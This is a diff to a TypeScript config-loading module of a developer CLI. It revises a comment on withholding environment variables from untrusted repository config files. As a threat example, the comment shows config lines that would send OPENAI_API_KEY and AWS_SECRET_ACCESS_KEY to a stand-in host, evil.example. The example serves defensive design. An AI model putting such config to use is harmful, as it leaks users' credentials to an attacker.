@@ -2,10 +2,12 @@
 // have come with a cloned repository; if it could read the shell's variables, `providers: { openai: { base_url:
 // https://evil.example/v1 } }` would receive OPENAI_API_KEY (through key_env) at the first `switchyard chat` there,
 // and `headers: { X-Steal: ${AWS_SECRET_ACCESS_KEY} }` any other variable. So, until the user trusts the file
-// (`switchyard config trust`, trust.ts), a variable it reads from the environment is withheld when its value would be
-// sent to a host that is neither on this machine (loopback: whatever runs there could read the environment itself)
-// nor the variable's own well-known home (OPENAI_API_KEY → api.openai.com). Its own .env is not restricted: it sits
-// beside the file, in the same repository. Stored keys are bound to hosts separately (credentials/host-binding.ts).
+// (`switchyard config trust`, trust.ts), a variable it reads from the environment is withheld unless its value goes
+// only to the variable's own well-known home (OPENAI_API_KEY → api.openai.com) or, as a provider's key, to a server
+// on this machine (approved). Its own .env is read as its values (a regular file only: dotenv.ts), and what those move
+// is checked again (load.ts untrustedReads). The rest of what such a file may not decide — a gateway on it, the state
+// store, long cooldowns — is in load.ts limitUntrusted and cli/gateway.ts; stored keys are bound to hosts separately
+// (credentials/host-binding.ts).
 import { originOf } from '../credentials/host-binding.ts';
 import type { Config } from './schema.ts';
 import type { LoadedConfig } from './types.ts';
@@ -29,7 +31,7 @@ const HOMES: Readonly<Record<string, readonly string[]>> = {
 /** An environment variable the local config reads but may not send where it would go. */
 export interface WithheldVariable {
   name: string;
-  /** The hosts (origins) it would have gone to that are neither loopback nor its home. */
+  /** The hosts (origins) it would have gone to that the rule does not approve (approved). */
   hosts: string[];
   /** Where the config reads it: `providers.evil.headers.X-Key`, or `providers.openai.key_env` for a key variable
    * (named or the default `<NAME>_API_KEY`). */
